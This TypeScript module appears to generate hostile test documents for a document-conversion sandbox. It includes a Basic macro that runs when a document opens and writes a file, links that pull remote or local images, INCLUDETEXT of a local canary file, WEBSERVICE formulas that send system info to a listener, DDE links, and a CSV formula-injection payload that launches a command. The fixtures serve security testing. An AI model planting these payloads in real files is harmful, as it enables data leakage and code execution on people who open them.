import { docx } from './ooxml';
import { fods, fodt, formula, paragraph, picture } from './odf';

/** A document that reaches for what it must not have, by its name. */
export type Hostile = readonly [filename: string, bytes: Buffer];

/** Basic that runs when the document opens and leaves a file. */
const macro = (target: string) =>
  '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Go?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners>'
    .replace(/^/, `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Go\nOpen "${target}" For Output As #1\nPrint #1, "x"\nClose #1\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>`)
    .concat('</office:scripts>');

/** Pictures and frames that a document links to, of the network and of the machine. @param url of a listener; @param canary a picture on this machine. */
export function linking(url: (path: string) => string, canary: string): Hostile[] {
  const file = `file://${canary}`;
  return [
    ['image-http.fodt', fodt(paragraph('words') + picture(url('fodt')))],
    ['image-file.fodt', fodt(paragraph('words') + picture(file))],
    ['image-http.docx', docx({ text: 'words', image: url('docx') })],
    ['image-file.docx', docx({ text: 'words', image: file })],
    ['section-http.fodt', fodt(`<text:section text:name="S"><text:section-source xlink:href="${url('section')}" text:filter-name="HTML (StarWriter)"/>${paragraph('words')}</text:section>`)],
    ['env.fodt', fodt(paragraph('words') + picture(url('${CANARY_ENV}')) + picture(`vnd.sun.star.expand:\${CANARY_ENV}`) + picture(`${url('')}?$CANARY_ENV`))],
    ['includepicture.rtf', Buffer.from(`{\\rtf1\\ansi words {\\field{\\*\\fldinst INCLUDEPICTURE "${url('rtf')}" \\\\d}{\\fldrslt }}{\\field{\\*\\fldinst INCLUDETEXT "${canary}"}{\\fldrslt }}\\par}`)],
    ['page.html', Buffer.from(`<html><head><link rel="stylesheet" href="${url('css')}"><base href="${url('base/')}"></head><body>words<img src="${url('img')}"><img src="relative.png"><img src="${file}"><iframe src="${url('frame')}"></iframe><object data="${url('object')}"></object></body></html>`)],
  ];
}

/** Formulas and links of spreadsheets. */
export function reaching(url: (path: string) => string, canary: string): Hostile[] {
  const dde = '<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="/canary/secret.ods" office:dde-item="A1" office:automatic-update="true"/><table:table/></table:dde-link></table:dde-links>';
  return [
    ['webservice.fods', fods({ S: [['words', formula(`WEBSERVICE("${url('webservice')}")`), formula(`COM.MICROSOFT.WEBSERVICE("${url('ms')}?"&INFO("system"))`)]] })],
    ['dde.fods', Buffer.from(String(fods({ S: [['words', formula('DDE("soffice";"/canary/secret.ods";"A1")')]] })).replace('</office:spreadsheet>', `${dde}</office:spreadsheet>`))],
    ['external.fods', fods({ S: [['words', formula(`'${url('x.ods')}'#$Sheet1.A1`), formula(`'file://${canary}'#$Sheet1.A1`)]] })],
    ['linked-sheet.fods', Buffer.from(String(fods({ S: [['words']] })).replace('<table:table-row>', `<table:table-source xlink:href="${url('sheet.csv')}" table:filter-name="Text - txt - csv (StarCalc)" xlink:type="simple"/><table:table-row>`))],
    ['webservice.csv', Buffer.from(`words,"=WEBSERVICE(""${url('csv')}"")"\n"=DDE(""soffice"";""/canary/secret.ods"";""A1"")",=cmd|' /C calc'!A0\n`)],
  ];
}

/** Macros. @param target the file that they would leave. */
export function acting(target: string): Hostile[] {
  return [
    ['basic.fodt', fodt(paragraph('words'), macro(target))],
    ['vba.docm', docx({ text: 'words', macros: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4088)]) })],
  ];
}
